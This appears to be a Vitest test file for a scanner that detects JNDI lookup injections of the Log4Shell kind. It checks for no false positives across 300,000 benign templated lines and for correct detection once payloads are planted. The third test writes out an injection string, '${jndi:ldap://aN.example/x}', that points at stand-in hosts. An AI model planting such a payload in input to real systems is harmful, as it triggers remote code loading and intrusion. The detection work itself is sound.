import { expect, test } from 'vitest'
import { benignLines } from '../../test/kit/benign-lines.ts'
import { huntIn } from '../../test/kit/hunting.ts'

const lineCount = 300_000
const lines = [...benignLines(lineCount)]

test('of 300,000 lines that hold templates, escapes and harmless lookups, none is taken for an attack', {
  timeout: 120_000,
}, () => {
  const { findings, gaps } = huntIn(lines.join('\n'))

  expect(findings.map(({ at, because }) => ({ line: lines[(at.line ?? 0) - 1], because }))).toEqual([])
  expect(gaps).toEqual([])
})

test('the lines are many and various', () => {
  expect(lines).toHaveLength(lineCount)
  expect(new Set(lines).size).toBeGreaterThan(0.9 * lineCount)
  expect(lines.filter((line) => line.includes('${')).length).toBeGreaterThan(lineCount / 2)
  expect(lines.filter((line) => /%24|%7B|\\u00|&#/.test(line)).length).toBeGreaterThan(lineCount / 20)
  expect(lines.filter((line) => /\$\{(?:sys|env|ctx|date|bundle|main|web|sd):/.test(line)).length).toBeGreaterThan(
    20_000,
  )
})

test('the same lines with a payload in one of them hide nothing', () => {
  const some = lines
    .slice(0, 2_000)
    .map((line, i) => (i % 500 === 250 ? `${line} \${jndi:ldap://a${i}.example/x}` : line))

  const fired = huntIn(some.join('\n')).findings.filter(({ verdict }) => verdict === 'fires')
  expect(fired.map(({ lookup }) => lookup.host)).toEqual([250, 750, 1_250, 1_750].map((i) => `a${i}.example`))
})
